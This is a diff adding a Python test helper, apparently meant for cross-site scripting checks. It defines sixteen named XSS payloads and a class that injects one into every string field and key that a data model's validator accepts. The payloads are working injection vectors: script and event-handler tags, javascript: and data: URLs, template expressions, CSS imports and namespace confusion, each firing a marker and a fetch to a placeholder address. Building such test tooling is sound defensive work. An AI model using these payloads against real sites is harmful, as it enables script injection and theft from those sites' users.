@@ -1,0 +1,95 @@
+"""Sixteen payloads, and a way to put one into every text that a value holds."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+from typing import Any
+
+#: Takes the place of the address that a page must never ask for.
+ADDRESS = "ADDRESS"
+#: What must never run.
+RUN = f"window.__ran=1;fetch('{ADDRESS}/run')"
+
+#: Name -> payload. It stands behind the text that it is put into; before it where its name begins with "at ".
+PAYLOADS: dict[str, str] = {
+    "script": f"<script>{RUN}</script>",
+    "image": f'"><img src={ADDRESS}/x onerror="{RUN}">',
+    "svg": f"'><svg/onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s>",
+    "end of script": f"</script><script>{RUN}</script>",
+    "comment": f"<!--<script>--></script><script>{RUN}</script>",
+    "end of everything": "</textarea></title></style></noscript>"
+    f'<iframe srcdoc="<script>parent.{RUN}</script>">',
+    "at script address": f"javascript:{RUN}//",
+    "at data address": f"data:text/html,<script>{RUN}</script>",
+    "attribute": f'" autofocus tabindex=1 onfocus="{RUN}" onmouseover=\'{RUN}\' x="',
+    "template": f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} {{% raw %}} `",
+    "head": f"<link rel=stylesheet href={ADDRESS}/a><meta http-equiv=refresh content=0;url={ADDRESS}/b>"
+    f"<base href={ADDRESS}/>",
+    "style": f"</style><style>@import '{ADDRESS}/c';*{{background:url({ADDRESS}/d)}}</style>;}}"
+    f"*{{background:url({ADDRESS}/e)}}",
+    "string": f"\\u0022;{RUN};// \u2028';{RUN};//\u2029\\\";{RUN};//",
+    "namespaces": f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
+    "entities": f"&lt;img src=x onerror={RUN}&gt;&#60;script&#62;{RUN}&#60;/script&#62;",
+    "media": f'<a href="java\tscript:{RUN}" ping={ADDRESS}/f>x</a><video src={ADDRESS}/g autoplay><object '
+    f"data={ADDRESS}/h><embed src={ADDRESS}/i><form action={ADDRESS}/j><button autofocus>",
+}
+
+
+class Attack:
+    """Puts payloads into all texts of plain data that the data's own model lets through.
+
+    Args:
+        value: the plain data.
+        accepts: raises where it is no such data.
+    """
+
+    def __init__(self, value: Any, accepts: Callable[[Any], object]) -> None:
+        self.value = value
+        self.places = {place for place in _places(value) if self._is_open(place, accepts)}
+
+    def _is_open(self, place: str, accepts: Callable[[Any], object]) -> bool:
+        try:
+            accepts(_changed(self.value, {place}, lambda text: f"{text}<x>"))
+        except ValueError:
+            return False
+        return True
+
+    def with_payload(self, name: str, address: str) -> Any:
+        """The data with a payload in every text; as it is where no payload is named."""
+        return _changed(self.value, self.places, lambda text: put(name, address, text))
+
+
+def put(name: str, address: str, text: str) -> str:
+    """A text with a payload; as it is where none is named."""
+    if not name:
+        return text
+    payload = PAYLOADS[name].replace(ADDRESS, address)
+    return f"{payload}{text}" if name.startswith("at ") else f"{text}{payload}"
+
+
+def _places(value: Any, place: str = "") -> Iterator[str]:
+    """The kinds of places at which a text stands: lists and mappings are one place for all that they hold."""
+    if isinstance(value, str):
+        yield place
+    elif isinstance(value, list):
+        for item in value:
+            yield from _places(item, f"{place}[]")
+    elif isinstance(value, dict):
+        if value:
+            yield f"{place}{{}}"
+        for key, item in value.items():
+            yield from _places(item, f"{place}.{key}")
+
+
+def _changed(value: Any, places: set[str], change: Callable[[str], str], place: str = "") -> Any:
+    if isinstance(value, str):
+        return change(value) if place in places else value
+    if isinstance(value, list):
+        return [_changed(item, places, change, f"{place}[]") for item in value]
+    if isinstance(value, dict):
+        is_open = f"{place}{{}}" in places
+        return {
+            change(key) if is_open else key: _changed(item, places, change, f"{place}.{key}")
+            for key, item in value.items()
+        }
+    return value
